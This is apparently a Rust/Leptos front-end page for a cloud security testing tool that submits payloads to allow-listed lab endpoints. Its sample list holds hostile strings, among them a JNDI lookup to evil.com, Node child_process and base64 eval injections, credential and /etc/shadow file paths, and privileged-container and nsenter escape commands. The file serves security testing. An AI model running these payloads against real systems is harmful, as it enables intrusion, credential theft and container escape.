//! Cloud security validation (payload testing) page.
//!
//! SYSTEM CONTEXT
//! ==============
//! Targets are checked against an authorized-endpoint allow list before
//! anything is sent. That check is a UX guard for the lab environment,
//! not a security boundary; enforcement belongs to the backend.

#[cfg(test)]
#[path = "payload_test.rs"]
mod payload_test;

use leptos::prelude::*;
use leptos_router::hooks::use_navigate;

use crate::components::footer::Footer;
use crate::components::navbar::Navbar;
use crate::components::sidebar::Sidebar;
use crate::net::types::PayloadResult;
use crate::state::auth::AuthState;
use crate::util::auth::{install_session_guard, verify_if_due};
use crate::util::persist;

/// One selectable test category.
pub struct TestType {
    pub value: &'static str,
    pub label: &'static str,
}

/// Supported test categories, in display order.
pub const TEST_TYPES: [TestType; 5] = [
    TestType { value: "api_misconfiguration", label: "API Misconfiguration" },
    TestType { value: "iam_issues", label: "IAM Permission Issues" },
    TestType { value: "s3_bucket_exposure", label: "S3 Bucket Exposure" },
    TestType { value: "serverless_injection", label: "Serverless Injection" },
    TestType { value: "container_escape", label: "Container Escape" },
];

/// Sample payloads offered for a test category.
fn sample_payloads(test_type: &str) -> &'static [&'static str] {
    match test_type {
        "api_misconfiguration" => &[
            "GET /api/v1/users?admin=true",
            "POST /api/admin/config {\"bypass\": true}",
            "PUT /api/secrets/all",
            "DELETE /api/users/all",
        ],
        "iam_issues" => &[
            "AssumeRole: arn:aws:iam::*:role/Admin",
            "GetObject: s3://*/confidential/*",
            "ListBuckets: *",
            "DescribeInstances: ec2:*",
        ],
        "s3_bucket_exposure" => &[
            "s3://company-backups/.aws/credentials",
            "s3://logs-bucket/application.log",
            "s3://config-bucket/database.conf",
            "s3://public-bucket/../private/keys.pem",
        ],
        "serverless_injection" => &[
            "${jndi:ldap://evil.com/exploit}",
            "require(\"child_process\").exec(\"whoami\")",
            "eval(Buffer.from(\"Y29uc29sZS5sb2coInB3bmVkIik=\", \"base64\"))",
            "import(\"os\").then(os=>os.exec(\"id\"))",
        ],
        "container_escape" => &[
            "docker run --privileged -v /:/host alpine chroot /host",
            "kubectl exec pod -- mount /dev/sda1 /mnt",
            "/proc/1/root/etc/shadow",
            "nsenter -t 1 -m -u -i -n -p bash",
        ],
        _ => &[],
    }
}

/// Lab endpoints payload tests may target.
pub const AUTHORIZED_ENDPOINTS: [&str; 10] = [
    "localhost",
    "127.0.0.1",
    "api.testcloud.com",
    "demo-api.amazonaws.com",
    "test.azurewebsites.net",
    "staging-app.herokuapp.com",
    "dev-api.firebaseapp.com",
    "sandbox.cloud.local",
    "test-env.local",
    "staging.local",
];

/// Lowercased hostname of a URL-ish string; the scheme is optional.
fn hostname_of(url: &str) -> Option<String> {
    let rest = url.trim();
    let rest = rest.split_once("://").map_or(rest, |(_, tail)| tail);
    let authority = rest.split(['/', '?', '#']).next()?;
    let authority = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = authority.split(':').next()?;
    if host.is_empty() {
        None
    } else {
        Some(host.to_ascii_lowercase())
    }
}

/// True when the URL's hostname is an authorized endpoint or one of its
/// subdomains.
fn is_authorized_endpoint(url: &str) -> bool {
    let Some(hostname) = hostname_of(url) else {
        return false;
    };
    AUTHORIZED_ENDPOINTS.iter().any(|endpoint| {
        hostname == *endpoint || hostname.ends_with(&format!(".{endpoint}"))
    })
}

fn risk_level_class(level: &str) -> &'static str {
    match level.to_ascii_lowercase().as_str() {
        "critical" => "badge badge--critical",
        "high" => "badge badge--high",
        "medium" => "badge badge--medium",
        "low" => "badge badge--low",
        _ => "badge",
    }
}

#[component]
pub fn PayloadPage() -> impl IntoView {
    let auth = expect_context::<RwSignal<AuthState>>();
    install_session_guard(auth, use_navigate());
    verify_if_due(auth);

    let test_type = RwSignal::new("api_misconfiguration".to_owned());
    let target_url = RwSignal::new(String::new());
    let payload = RwSignal::new(
        sample_payloads("api_misconfiguration")
            .first()
            .copied()
            .unwrap_or_default()
            .to_owned(),
    );
    let testing = RwSignal::new(false);
    let result = RwSignal::new(None::<PayloadResult>);
    let error = RwSignal::new(String::new());
    let validation_error = RwSignal::new(String::new());
    let url_validation_error = RwSignal::new(String::new());

    if let Some(saved) = persist::load_json::<PayloadResult>(persist::LAST_PAYLOAD_KEY) {
        result.set(Some(saved));
    }

    let on_type_change = move |ev: leptos::ev::Event| {
        let value = event_target_value(&ev);
        if let Some(first) = sample_payloads(&value).first() {
            payload.set((*first).to_owned());
        }
        test_type.set(value);
    };

    let on_url_input = move |ev: leptos::ev::Event| {
        let value = event_target_value(&ev);
        validation_error.set(String::new());
        error.set(String::new());
        if !value.trim().is_empty() && !is_authorized_endpoint(&value) {
            url_validation_error.set(
                "Unauthorized endpoint. Please use only approved cloud testing environments."
                    .to_owned(),
            );
        } else {
            url_validation_error.set(String::new());
        }
        target_url.set(value);
    };

    let on_submit = move |ev: leptos::ev::SubmitEvent| {
        ev.prevent_default();
        if testing.get() {
            return;
        }
        let url_value = target_url.get().trim().to_owned();
        if url_value.is_empty() {
            validation_error.set("Please enter a target cloud endpoint".to_owned());
            return;
        }
        if !is_authorized_endpoint(&url_value) {
            url_validation_error.set(
                "Unauthorized endpoint. Please use only approved cloud testing environments."
                    .to_owned(),
            );
            return;
        }
        let payload_value = payload.get().trim().to_owned();
        if payload_value.is_empty() {
            validation_error.set("Please enter a test payload".to_owned());
            return;
        }
        let type_value = test_type.get();
        validation_error.set(String::new());
        url_validation_error.set(String::new());
        error.set(String::new());
        testing.set(true);
        result.set(None);

        #[cfg(feature = "hydrate")]
        leptos::task::spawn_local(async move {
            match crate::net::api::test_payload(&type_value, &url_value, &payload_value).await {
                Ok(outcome) => {
                    persist::save_json(persist::LAST_PAYLOAD_KEY, &outcome);
                    result.set(Some(outcome));
                }
                Err(err) => error.set(err.to_string()),
            }
            testing.set(false);
        });
        #[cfg(not(feature = "hydrate"))]
        {
            let _ = (type_value, url_value, payload_value);
        }
    };

    view! {
        <div class="page">
            <Navbar/>
            <div class="page__body">
                <Sidebar/>
                <main class="page__main payload">
                    <Show when=move || auth.get().is_authenticated()>
                        <header class="payload__header">
                            <h1>"Cloud Security Validation"</h1>
                            <p class="payload__blurb">
                                "Test payloads against approved lab endpoints and review the simulated response."
                            </p>
                        </header>

                        <form class="payload__form" on:submit=on_submit>
                            <label class="payload__label">
                                "Test Type"
                                <select class="payload__select" on:change=on_type_change>
                                    {TEST_TYPES
                                        .iter()
                                        .map(|kind| {
                                            view! {
                                                <option
                                                    value=kind.value
                                                    selected=move || test_type.get() == kind.value
                                                >
                                                    {kind.label}
                                                </option>
                                            }
                                        })
                                        .collect::<Vec<_>>()}
                                </select>
                            </label>

                            <label class="payload__label">
                                "Target Endpoint"
                                <input
                                    class="payload__input"
                                    type="text"
                                    placeholder="http://localhost:8080/api"
                                    prop:value=move || target_url.get()
                                    on:input=on_url_input
                                />
                            </label>
                            <Show when=move || !url_validation_error.get().is_empty()>
                                <p class="alert alert--warning">{move || url_validation_error.get()}</p>
                            </Show>

                            <label class="payload__label">
                                "Payload"
                                <textarea
                                    class="payload__textarea"
                                    prop:value=move || payload.get()
                                    on:input=move |ev| payload.set(event_target_value(&ev))
                                ></textarea>
                            </label>

                            <div class="payload__samples">
                                {move || {
                                    sample_payloads(&test_type.get())
                                        .iter()
                                        .map(|sample| {
                                            let sample = (*sample).to_owned();
                                            let fill = sample.clone();
                                            view! {
                                                <button
                                                    type="button"
                                                    class="payload__sample"
                                                    on:click=move |_| payload.set(fill.clone())
                                                >
                                                    {sample}
                                                </button>
                                            }
                                        })
                                        .collect::<Vec<_>>()
                                }}
                            </div>

                            <Show when=move || !validation_error.get().is_empty()>
                                <p class="alert alert--warning">{move || validation_error.get()}</p>
                            </Show>
                            <Show when=move || !error.get().is_empty()>
                                <p class="alert alert--error">{move || error.get()}</p>
                            </Show>

                            <button class="payload__button" type="submit" disabled=move || testing.get()>
                                {move || if testing.get() { "Validating..." } else { "Run Validation" }}
                            </button>
                        </form>

                        {move || result.get().map(|outcome| view! { <PayloadReport outcome=outcome/> })}
                    </Show>
                </main>
            </div>
            <Footer/>
        </div>
    }
}

/// Rendered outcome of one payload test.
#[component]
fn PayloadReport(outcome: PayloadResult) -> impl IntoView {
    let response = outcome.response.clone();
    let risk = response.risk_level.clone().unwrap_or_default();
    let risk_class = risk_level_class(&risk);
    let has_risk = !risk.is_empty();
    let vulnerable = response.vulnerability_detected.unwrap_or(false);

    view! {
        <section class="payload__results">
            <h2>"Validation Results"</h2>
            <div class="payload__tiles">
                <div class="payload__tile">
                    <span class="payload__tile-label">"Target"</span>
                    <span class="payload__tile-value">{outcome.target_url.clone()}</span>
                </div>
                <div class="payload__tile">
                    <span class="payload__tile-label">"Status Code"</span>
                    <span class="payload__tile-value">{response.status_code}</span>
                </div>
                <div class="payload__tile">
                    <span class="payload__tile-label">"Response Time"</span>
                    <span class="payload__tile-value">{response.response_time.clone()}</span>
                </div>
                <div class="payload__tile">
                    <span class="payload__tile-label">"Vulnerability"</span>
                    <span class="payload__tile-value">
                        {if vulnerable { "Detected" } else { "Not detected" }}
                    </span>
                </div>
            </div>

            <Show when=move || has_risk>
                <p class="payload__risk">
                    "Risk level: "
                    <span class=risk_class>{risk.clone()}</span>
                </p>
            </Show>

            {response
                .evidence
                .clone()
                .map(|evidence| view! { <p class="payload__evidence">"Evidence: " {evidence}</p> })}
            {response
                .recommendation
                .clone()
                .map(|recommendation| {
                    view! { <p class="payload__recommendation">"Recommendation: " {recommendation}</p> }
                })}
            {response
                .protection
                .clone()
                .map(|protection| view! { <p class="payload__protection">"Protection: " {protection}</p> })}
        </section>
    }
}
